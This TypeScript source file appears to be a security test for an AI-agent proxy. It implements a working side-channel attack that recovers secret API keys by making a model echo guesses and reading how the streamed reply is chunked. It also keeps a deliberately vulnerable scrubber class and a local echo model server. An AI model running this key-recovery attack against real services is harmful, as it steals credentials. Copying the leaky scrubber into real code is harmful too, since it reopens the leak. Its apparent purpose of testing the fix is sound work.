import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { ProxyAssistantMessageEvent } from "@earendil-works/pi-agent-core";
import type { Redactor } from "./redact.ts";

/**
 * An attack on the reply scrubber by someone who holds only the proxy token: make a model echo a guess, and
 * watch how the reply comes back in pieces. It knows nothing of the scrubber's code. For every one-character
 * extension of what it knows, it compares the shape of the reply (which events, how long each delta) with
 * the shape most extensions get, and follows the extensions whose replies lag most behind the usual one: if
 * a scrubber keeps back text that could begin a key, the longer the part of a guess that begins one, the
 * more it keeps back. A guess that is a whole key comes back as "[redacted]": that is how
 * it knows it has one.
 */

/** What one echoed prompt looks like from outside: the events sent, each delta as its length only. */
export interface ReplyShape {
  parts: string[];
  redacted: boolean;
}

export interface AttackResult {
  /** Whole keys recovered. */
  keys: string[];
  requests: number;
}

export interface AttackOptions {
  /** The characters keys are made of, as far as the attacker guesses. */
  alphabet: string;
  /** What the attacker knows every key it looks for starts with (nothing, or a provider's prefix). */
  knownPrefix?: string;
  maxLength: number;
  /** Give up after this many requests. */
  maxRequests: number;
  /**
   * Each guess is sent this many times, shifted by one more leading character each time, so that its end
   * falls on every place a reply can break into pieces (a model streams a few characters at a time).
   */
  alignments: number;
}

/** The shape of a reply: its events in order, with each delta's text replaced by its length. */
export function replyShape(events: readonly { type: string; delta?: unknown }[], text: string): ReplyShape {
  return {
    parts: events.map((event) =>
      typeof event.delta === "string" ? `${event.type}:${event.delta.length}` : event.type,
    ),
    redacted: text.includes("[redacted]"),
  };
}

/** The prompts that carry one guess: shifted, and with text after it, which a held-back tail must wait for. */
function promptsFor(guess: string, alignments: number): string[] {
  return Array.from({ length: alignments }, (_, shift) => `${"x".repeat(shift)} ${guess} is what I typed.`);
}

const key = (shape: ReplyShape) => shape.parts.join(",");

/** The places in the reply's text where its pieces end. */
function boundaries(shape: ReplyShape): number[] {
  const ends: number[] = [];
  let sent = 0;
  for (const part of shape.parts) {
    const length = part.split(":")[1];
    if (length === undefined) continue;
    sent += Number(length);
    ends.push(sent);
  }
  return ends;
}

/**
 * How far `shape` lags behind `usual`: at each place the usual reply had sent a piece, how many characters
 * fewer this one had sent by then, summed. A reply that keeps back more of a guess lags more.
 */
function lag(shape: ReplyShape, usual: ReplyShape): number {
  const ends = boundaries(shape);
  let total = 0;
  for (const end of boundaries(usual)) {
    const sentBy = ends.filter((candidate) => candidate <= end).at(-1) ?? 0;
    total += end - sentBy;
  }
  return total;
}

function mostCommon(shapes: readonly ReplyShape[]): ReplyShape {
  const counts = new Map<string, { shape: ReplyShape; count: number }>();
  for (const shape of shapes) {
    const entry = counts.get(key(shape)) ?? { shape, count: 0 };
    entry.count++;
    counts.set(key(shape), entry);
  }
  return [...counts.values()].sort((a, b) => b.count - a.count)[0]?.shape ?? { parts: [], redacted: false };
}

/** `echo(prompt)` sends a prompt for a model to repeat, and returns the shape of the reply. */
export async function recoverKeys(
  echo: (prompt: string) => Promise<ReplyShape>,
  options: AttackOptions,
): Promise<AttackResult> {
  const keys: string[] = [];
  let requests = 0;
  const pending = [options.knownPrefix ?? ""];
  while (pending.length > 0) {
    const prefix = pending.pop() as string;
    if (prefix.length >= options.maxLength) continue;
    const replies = new Map<string, ReplyShape[]>();
    for (const char of options.alphabet) {
      const shapes: ReplyShape[] = [];
      for (const prompt of promptsFor(prefix + char, options.alignments)) {
        if (requests >= options.maxRequests) return { keys, requests };
        requests++;
        shapes.push(await echo(prompt));
      }
      replies.set(prefix + char, shapes);
    }
    const usual = Array.from({ length: options.alignments }, (_, alignment) =>
      mostCommon([...replies.values()].map((shapes) => shapes[alignment] as ReplyShape)),
    );
    const found = [...replies].filter(([, shapes]) => shapes.some((shape) => shape.redacted));
    if (found.length > 0) {
      // A whole key: this branch is done.
      keys.push(...found.map(([guess]) => guess));
      continue;
    }
    const standingOut: { guess: string; lag: number }[] = [];
    for (const [guess, shapes] of replies) {
      if (shapes.every((shape, alignment) => key(shape) === key(usual[alignment] as ReplyShape))) continue;
      const behind = shapes.reduce(
        (sum, shape, alignment) => sum + lag(shape, usual[alignment] as ReplyShape),
        0,
      );
      standingOut.push({ guess, lag: behind });
    }
    // The extensions whose replies lag most: those that begin a key, not those that only end like one.
    const most = Math.max(...standingOut.map((entry) => entry.lag));
    for (const entry of standingOut) if (entry.lag === most) pending.push(entry.guess);
  }
  return { keys, requests };
}

type DeltaType = "text_delta" | "thinking_delta" | "toolcall_delta";

/**
 * The design that leaked, kept to show that the attack above works: it holds back only a tail that could
 * begin a secret, so where a reply breaks depends on whether the echoed guess begins one.
 */
export class PrefixHoldingScrubber {
  readonly #redactor: Redactor;
  readonly #held = new Map<number, { type: DeltaType; text: string }>();

  constructor(redactor: Redactor) {
    this.#redactor = redactor;
  }

  scrub(event: ProxyAssistantMessageEvent): ProxyAssistantMessageEvent[] {
    switch (event.type) {
      case "text_delta":
      case "thinking_delta":
      case "toolcall_delta": {
        const held = this.#held.get(event.contentIndex);
        const text = this.#redactor.serialized((held?.text ?? "") + event.delta);
        const keep = this.#tailLength(text);
        if (keep === 0) this.#held.delete(event.contentIndex);
        else this.#held.set(event.contentIndex, { type: event.type, text: text.slice(text.length - keep) });
        const send = text.slice(0, text.length - keep);
        return send === "" ? [] : [{ type: event.type, contentIndex: event.contentIndex, delta: send }];
      }
      case "text_end":
      case "thinking_end":
      case "toolcall_end":
        return [...this.#release(event.contentIndex), event];
      case "done":
      case "error":
        return [...[...this.#held.keys()].flatMap((index) => this.#release(index)), event];
      // A block's start carries no text to scrub.
      case "start":
      case "text_start":
      case "thinking_start":
      case "toolcall_start":
        return [event];
    }
  }

  #release(contentIndex: number): ProxyAssistantMessageEvent[] {
    const held = this.#held.get(contentIndex);
    if (!held) return [];
    this.#held.delete(contentIndex);
    return [{ type: held.type, contentIndex, delta: held.text }];
  }

  #tailLength(text: string): number {
    let longest = 0;
    for (const secret of this.#redactor.secrets) {
      for (let tail = Math.min(secret.length - 1, text.length); tail > longest; tail--) {
        if (secret.startsWith(text.slice(text.length - tail))) longest = tail;
      }
    }
    return longest;
  }
}

/**
 * A model server that repeats the last user message, four characters a chunk, as an OpenAI-compatible
 * server streams (any model can be asked to repeat a text; this one always does). Its one model is "echo".
 */
export async function startEchoServer(): Promise<{ baseUrl: string; close(): Promise<void> }> {
  const chunk = (delta: Record<string, unknown>, finish: string | null = null) =>
    `data: ${JSON.stringify({ id: "echo", object: "chat.completion.chunk", created: 1, model: "echo", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  const server = createServer((req, res) => {
    if (req.method === "GET" && req.url?.endsWith("/models")) {
      res.writeHead(200, { "Content-Type": "application/json" });
      res.end(JSON.stringify({ object: "list", data: [{ id: "echo", object: "model" }] }));
      return;
    }
    let raw = "";
    req.on("data", (data: Buffer) => (raw += data.toString()));
    req.on("end", () => {
      const body = JSON.parse(raw) as { messages: { role: string; content: unknown }[] };
      const last = body.messages.filter((message) => message.role === "user").at(-1)?.content;
      const text = typeof last === "string" ? last : JSON.stringify(last);
      res.writeHead(200, { "Content-Type": "text/event-stream" });
      res.write(chunk({ role: "assistant", content: "" }));
      for (let at = 0; at < text.length; at += 4) res.write(chunk({ content: text.slice(at, at + 4) }));
      res.write(chunk({}, "stop"));
      res.end("data: [DONE]\n\n");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}
